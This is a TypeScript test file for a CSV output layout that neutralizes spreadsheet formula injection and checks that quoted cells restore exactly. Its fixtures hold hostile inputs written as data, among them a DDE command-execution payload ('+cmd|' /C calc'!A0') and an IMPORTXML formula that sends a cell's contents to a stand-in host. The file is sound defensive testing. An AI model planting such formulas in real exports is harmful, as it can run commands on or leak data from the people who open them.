import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { headerText, makeLayout, recordText, restoreCell, safeCell } from '../../src/output/layout.js';
import type { ResultRecord } from '../../src/types.js';

describe('safeCell', () => {
  it.each([
    // formulas and the characters that start one
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://x.test","click")', '\'=HYPERLINK("http://x.test","click")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\rline', "'\rline"],
    ['-', "'-"],
    ['+', "'+"],
    ['- a list item', "'- a list item"],
    ['+1 555 0100', "'+1 555 0100"],
    ['-Infinity', "'-Infinity"],
    ['-0x1F', "'-0x1F"],
    // already quoted before a formula: one more, so the value can be restored exactly
    ["'=1+1", "''=1+1"],
    ["''@x", "'''@x"],
    // numbers are data, not formulas
    ['-5', '-5'],
    ['+3.2', '+3.2'],
    ['-1e5', '-1e5'],
    ['-1.5E-3', '-1.5E-3'],
    ['-.5', '-.5'],
    ['+7.', '+7.'],
    ['0.000123', '0.000123'],
    // ordinary text, and formula characters that are not first
    ['Hello = world', 'Hello = world'],
    ["'tis the season", "'tis the season"],
    ['a@b.test', 'a@b.test'],
    [' =1+1', ' =1+1'],
    ['\n=1', '\n=1'],
    ['', ''],
  ])('%j -> %j', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
    expect(restoreCell(safeCell(input))).toBe(input);
  });
});

const RECORD: ResultRecord = {
  id: '@alice',
  status: 'ok',
  model: 'global.anthropic.claude-haiku-4-5-20251001-v1:0',
  response: '=IMPORTXML(CONCAT("http://x.test/?", A1), "//a")',
  stop_reason: 'end_turn',
  input_tokens: 5,
  output_tokens: 7,
  total_tokens: 12,
  cache_read_tokens: 0,
  cache_write_tokens: 0,
  cost_usd: 0.000001,
  latency_ms: 3,
  attempts: 1,
  finished_at: '2025-06-01T02:15:05.000Z',
  error_code: '',
  error_message: '',
} as ResultRecord;
const ROW = { '=cmd': '-3', prompt: '+SUM(A1)', note: 'fine' };

function cells(text: string): string[] {
  return (parse(text) as string[][])[0] ?? [];
}

describe('CSV layout', () => {
  it('neutralizes response, id and input cells, and header names, by default', () => {
    const layout = makeLayout('csv', Object.keys(ROW), false);
    const header = cells(headerText(layout));
    const line = cells(recordText(layout, RECORD, ROW));
    const byName = Object.fromEntries(header.map((name, i) => [name, line[i]]));
    expect(header.slice(0, 3)).toEqual(["'=cmd", 'prompt', 'note']);
    expect(byName).toMatchObject({
      "'=cmd": '-3',
      prompt: "'+SUM(A1)",
      note: 'fine',
      id: "'@alice",
      response: '\'=IMPORTXML(CONCAT("http://x.test/?", A1), "//a")',
      input_tokens: '5',
      cost_usd: '0.000001',
      finished_at: '2025-06-01T02:15:05.000Z',
    });
  });

  it('writes cells as they are with csv-safe off', () => {
    const layout = makeLayout('csv', Object.keys(ROW), false, false);
    expect(cells(headerText(layout))[0]).toBe('=cmd');
    const line = cells(recordText(layout, RECORD, ROW));
    expect(line).toContain('+SUM(A1)');
    expect(line).toContain(RECORD.response);
    expect(line).toContain('@alice');
  });

  it('leaves JSONL untouched', () => {
    const layout = makeLayout('jsonl', Object.keys(ROW), false, true);
    const record = JSON.parse(recordText(layout, RECORD, ROW)) as Record<string, unknown>;
    expect(record.response).toBe(RECORD.response);
    expect(record.id).toBe('@alice');
    expect(record.input).toEqual(ROW);
  });
});
